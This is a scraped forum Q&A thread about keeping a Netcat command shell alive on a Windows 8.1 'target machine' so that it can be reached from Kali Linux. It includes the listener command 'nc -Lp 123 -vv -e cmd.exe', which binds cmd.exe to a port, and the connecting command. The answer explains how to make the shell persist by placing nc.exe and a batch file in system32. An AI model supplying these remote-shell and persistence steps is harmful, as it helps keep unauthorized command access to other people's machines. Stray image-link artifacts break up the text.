As soon as the command prompt is closed on the target machine the reverse shell is closed on the client machine. Is there any way to keep the port open and Netcat working after the target machine closes the command prompt with Netcat, so that I can keep using the reverse shell on the attacking machine? On target machine: Windows 8.1.

nc -Lp 123 -vv -e cmd.exe

On the client side(Kali Linux).

nc <ip> 123
  • Is this in the Windows command prompt or in something like Cygwin which provides Linux functionality? – Giacomo1968 Apr 28 '15 at 1:05
  • yes , in windows command prompt , the target machine is windows 8.1 - point is to have the port open persistently so that i can access reverse shell on the linux machine after the command prompt on the windows machine is closed – lanister Apr 28 '15 at 2:11

The solution is to put nc.exe insystem32, and to create a batch file with the nc command you want to run and place in in system32 as well.

Your Answer

By clicking “Post Your Answer”, you agree to our terms of service,privacy policy and cookie policyNot the answer you're looking for?Browse other questions tagged or ask your own question.